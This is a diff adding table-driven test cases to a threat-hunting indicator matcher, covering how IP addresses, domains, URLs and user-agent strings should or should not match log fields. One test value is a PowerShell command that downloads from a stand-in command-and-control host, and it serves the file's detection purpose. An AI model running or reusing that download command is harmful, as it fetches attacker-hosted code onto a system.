@@ -125,6 +125,50 @@ describe('hunting for indicators', () => {
     )
   })
 
+  const CHROME =
+    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36'
+  /** What stands in a column, and whether it is what the indicator names. */
+  const MEANT: readonly (readonly [
+    WrittenIndicator,
+    Readonly<Record<string, string | readonly string[]>>,
+    boolean,
+  ])[] = [
+    [{ type: 'address', value: '5.254.43.18' }, { any: '5.254.43.18' }, true],
+    [{ type: 'address', value: '5.254.43.18' }, { any: '5.254.43.18:52113' }, true],
+    [{ type: 'address', value: '5.254.43.18' }, { any: '::ffff:5.254.43.18' }, true],
+    [{ type: 'address', value: '5.254.43.18' }, { any: '10.0.0.1,5.254.43.18' }, true],
+    [{ type: 'address', value: '5.254.43.18' }, { many: ['10.0.0.1', '5.254.43.18'] }, true],
+    [{ type: 'address', value: '5.254.43.18' }, { any: '15.254.43.18' }, false],
+    [{ type: 'address', value: '5.254.43.18' }, { any: '5.254.43.180' }, false],
+    [{ type: 'address', value: '5.254.43.18' }, { any: '15.5.254.43.18' }, false],
+    [{ type: 'address', value: '203.0.113.0/24' }, { any: '203.0.113.250' }, true],
+    [{ type: 'address', value: '203.0.113.0/24' }, { any: '203.0.114.1' }, false],
+    [{ type: 'address', value: 'fe80::1' }, { any: 'fe80::1%3' }, true],
+    [{ type: 'address', value: 'fe80::1%12' }, { any: 'FE80:0:0:0:0:0:0:1' }, true],
+    [{ type: 'address', value: '2001:db8::7' }, { any: '[2001:0db8::0007]:443' }, true],
+    [{ type: 'address', value: '2001:db8::7' }, { any: '2001:db8::77' }, false],
+    [{ type: 'domain', value: 'evil.example' }, { any: 'EVIL.example' }, true],
+    [{ type: 'domain', value: 'evil.example' }, { any: 'c2.evil.example' }, true],
+    [{ type: 'domain', value: 'evil.example' }, { any: 'powershell iwr http://c2.evil.example/a' }, true],
+    [{ type: 'domain', value: 'evil.example' }, { any: 'notevil.example' }, false],
+    [{ type: 'domain', value: 'evil.example' }, { any: 'evil.example.org' }, false],
+    [{ type: 'url', value: 'https://evil.example/a?b' }, { any: 'http://evil.example:443/a?b' }, true],
+    [{ type: 'url', value: 'https://evil.example/a' }, { any: 'https://evil.example/other' }, false],
+    [{ type: 'url', value: 'https://evil.example/a' }, { any: 'https://notevil.example/a' }, false],
+    // A space is a plus sign for IIS, and HttpProxy leaves commas out.
+    [{ type: 'agent', value: CHROME }, { agent: CHROME.replaceAll(' ', '+') }, true],
+    [{ type: 'agent', value: CHROME }, { agent: CHROME.replaceAll(',', ' ') }, true],
+    [{ type: 'agent', value: CHROME.replaceAll(' ', '+') }, { agent: CHROME.toLowerCase() }, true],
+    [{ type: 'agent', value: CHROME }, { agent: `${CHROME} Edg/1` }, false],
+    [{ type: 'agent', value: 'python-requests/2.25.1' }, { agent: 'python-requests/2.25.10' }, false],
+  ]
+  it.each(
+    MEANT.map(([written, row, meant]) => [written.value, JSON.stringify(row), meant, written, row] as const),
+  )('%s in %s: %s', (_value, _row, meant, written, row) => {
+    const hunter = new IndicatorHunter([indicatorOf(written)], fieldOf)
+    expect(hunter.hunt(blockOf([row])).length > 0).toBe(meant)
+  })
+
   it('knows under which path the web shows a file', () => {
     const shell = indicatorOf(WRITTEN[10]!)
     const block = blockOf([
